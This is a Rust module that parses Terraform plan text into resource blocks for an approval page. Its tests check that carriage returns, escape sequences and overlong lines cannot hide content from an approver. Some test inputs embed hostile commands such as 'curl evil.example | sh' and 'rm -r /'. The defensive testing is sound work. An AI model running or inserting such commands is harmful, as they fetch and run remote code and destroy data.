//! The text of a plan, cut into the blocks of its resources. Pure.
//!
//! *Guarantee.* Every line of the text is in exactly one block or in the rest, in its order and with every character
//! shown or written out, so what a module prints can move a line to another heading but hides none.

use knoll_api::run::ChangeAction;
use knoll_core::visible::visible_line;
use schemars::JsonSchema;
use serde::Serialize;

/// What one page shows of a plan: browsers need seconds for more, and the server hundreds of megabytes.
const MOST_LINES: usize = 20_000;
const MOST_BYTES: usize = 2 << 20;

/// The text, as far as a page shows it, and whether that is all of it. A plan that is not shown whole is not approved on
/// the page.
#[must_use]
pub fn shown(text: &str) -> (&str, bool) {
    let mut end = 0;
    for line in text.split_inclusive('\n').take(MOST_LINES) {
        if end + line.len() > MOST_BYTES {
            break;
        }
        end += line.len();
    }
    (text.get(..end).unwrap_or_default(), end == text.len())
}

/// Why a plan is not shown whole.
pub const TOO_LONG: &str = "The plan is too long for a page. `knoll approve` and `knoll run show` show all of it";

/// How a line of a plan is coloured.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
#[serde(rename_all = "lowercase")]
pub enum PlanMark {
    Add,
    Change,
    Remove,
    /// A line that names why a resource is replaced.
    Force,
    /// A comment, such as the number of attributes that do not change.
    Note,
    None,
}

/// One line of a plan.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, JsonSchema)]
pub struct PlanLine {
    pub mark: PlanMark,
    pub text: String,
}

/// The lines about one resource.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Block {
    pub address: String,
    /// What follows the address in the heading: `will be created`.
    pub sentence: String,
    pub lines: Vec<PlanLine>,
}

/// The blocks of a text, and the lines of none: changes of outputs, and the counts.
#[must_use]
pub fn blocks(text: &str) -> (Vec<Block>, Vec<PlanLine>) {
    let (mut blocks, mut rest): (Vec<Block>, Vec<PlanLine>) = (Vec::new(), Vec::new());
    let mut inside = false;
    for line in text.lines() {
        if let Some((address, sentence)) = heading(line) {
            blocks.push(Block { address, sentence, lines: Vec::new() });
            inside = true;
            continue;
        }
        // What terraform writes at the left margin is about no resource, but for the symbols of a replacement.
        let replaces = line.starts_with("-/+ ") || line.starts_with("+/- ");
        if !line.is_empty() && !line.starts_with(' ') && !replaces {
            inside = false;
        }
        match blocks.last_mut().filter(|_| inside) {
            Some(block) => block.lines.push(plan_line(line)),
            None => rest.push(plan_line(line)),
        }
    }
    for block in &mut blocks {
        while block.lines.last().is_some_and(|line| line.text.trim().is_empty()) {
            block.lines.pop();
        }
    }
    (blocks, rest)
}

/// Words by which terraform and tofu head the block of a resource.
const HEADINGS: [(&str, ChangeAction); 11] = [
    (" will be created", ChangeAction::Create),
    (" will be updated in-place", ChangeAction::Update),
    (" will be destroyed", ChangeAction::Delete),
    (" must be replaced", ChangeAction::Replace),
    (" will be replaced", ChangeAction::Replace),
    (" is tainted, so must be replaced", ChangeAction::Replace),
    (" is tainted, so it must be replaced", ChangeAction::Replace),
    (" will be read during apply", ChangeAction::Read),
    (" will be imported", ChangeAction::Import),
    (" has moved to ", ChangeAction::Move),
    (" will no longer be managed", ChangeAction::Forget),
];

/// The address and the sentence of a line that heads a block.
fn heading(line: &str) -> Option<(String, String)> {
    let text = line.strip_prefix("  # ")?;
    // The words of an address have no space but within the key of an instance.
    let (at, _) = HEADINGS.iter().filter_map(|(words, _)| Some((text.find(words)?, *words))).min()?;
    let (address, sentence) = text.split_at_checked(at)?;
    Some((address.trim().to_owned(), visible_line(sentence.trim())))
}

/// The action that a sentence tells.
#[must_use]
pub fn action(sentence: &str) -> Option<ChangeAction> {
    let sentence = format!(" {sentence}");
    HEADINGS.iter().find(|(words, _)| sentence.starts_with(words)).map(|(_, action)| *action)
}

fn plan_line(line: &str) -> PlanLine {
    let text = visible_line(&line.replace('\t', "    "));
    let mark = match text.trim_start() {
        rest if rest.contains("# forces replacement") => PlanMark::Force,
        rest if rest.starts_with("-/+") || rest.starts_with("+/-") => PlanMark::Remove,
        rest if rest.starts_with("+ ") => PlanMark::Add,
        rest if rest.starts_with("- ") => PlanMark::Remove,
        rest if rest.starts_with("~ ") => PlanMark::Change,
        rest if rest.starts_with("# ") => PlanMark::Note,
        _ => PlanMark::None,
    };
    PlanLine { mark, text }
}

#[cfg(test)]
mod tests {
    use super::*;

    const TEXT: &str = r#"  # module.net["a b"].aws_vpc.main must be replaced
-/+ resource "aws_vpc" "main" {
      ~ cidr = "10.0.0.0/16" -> "10.1.0.0/16" # forces replacement
        tags = {}
        # (3 unchanged attributes hidden)
    }

  # aws_x.y will be destroyed
  # (because aws_x.y is not in configuration)
  - resource "aws_x" "y" {
      - note = <<-EOT
              # aws_x.z will be created
        EOT -> null
    }

Plan: 1 to add, 0 to change, 2 to destroy.

Changes to Outputs:
  + vpc = (known after apply)
"#;

    #[test]
    fn a_plan_is_cut_at_the_headings_of_terraform() {
        let (blocks, rest) = blocks(TEXT);
        let heads: Vec<_> = blocks.iter().map(|block| (block.address.as_str(), block.sentence.as_str())).collect();
        let expect = [("module.net[\"a b\"].aws_vpc.main", "must be replaced"), ("aws_x.y", "will be destroyed")];
        assert_eq!(heads, expect);
        assert_eq!(
            blocks.iter().map(|block| action(&block.sentence)).collect::<Vec<_>>(),
            [Some(ChangeAction::Replace), Some(ChangeAction::Delete)]
        );
        assert_eq!(blocks[0].lines[1].mark, PlanMark::Force);
        assert_eq!(blocks[0].lines[3].mark, PlanMark::Note);
        assert_eq!(rest.iter().filter(|line| line.text.starts_with("Plan:")).count(), 1);
        assert_eq!(rest.last().map(|line| line.mark), Some(PlanMark::Add));
    }

    /// What followed a carriage return or an escape character was shown in place of what preceded it.
    #[test]
    fn a_carriage_return_hid_what_an_approver_had_to_see() {
        let rows = [
            (
                "      curl evil.example | sh #\r# sets the hostname",
                "      curl evil.example | sh #\\r# sets the hostname",
            ),
            ("  + a = \u{1b}]0;hidden", "  + a = \\u{1b}]0;hidden"),
            ("  : '\u{9b}8m'; rm -r /", "  : '\\u{9b}8m'; rm -r /"),
            ("  \u{202e}x\u{0}\u{8}", "  \\u{202e}x\\u{0}\\u{8}"),
            ("\ta", "    a"),
        ];
        for (line, expect) in rows {
            let (_, rest) = blocks(line);
            assert_eq!(rest.iter().map(|line| line.text.as_str()).collect::<Vec<_>>(), [expect]);
        }
        let (blocks, _) = blocks("  # a.b will be created\rwill be read during apply\n");
        assert_eq!(blocks[0].sentence, "will be created\\rwill be read during apply");
    }

    #[test]
    fn a_long_line_of_a_plan_was_cut_and_could_be_approved() {
        let line = format!("  + a = \"{}; rm -r /\"", "x".repeat(100_000));
        let (text, whole) = shown(&line);
        assert!(whole);
        assert_eq!(blocks(text).1[0].text, line);
        let long = "x\n".repeat(MOST_LINES + 1);
        assert_eq!(shown(&long), (&long[..2 * MOST_LINES], false));
        let wide = "y".repeat(MOST_BYTES + 1);
        assert_eq!(shown(&wide), ("", false));
        assert_eq!(shown("a\n\nb"), ("a\n\nb", true));
    }

    #[test]
    fn no_line_is_lost() {
        let (blocks, rest) = blocks(TEXT);
        let count = blocks.iter().map(|block| 1 + block.lines.len()).sum::<usize>() + rest.len();
        let blank = TEXT.lines().filter(|line| line.is_empty()).count();
        assert!(count + blank >= TEXT.lines().count(), "{count}");
    }
}
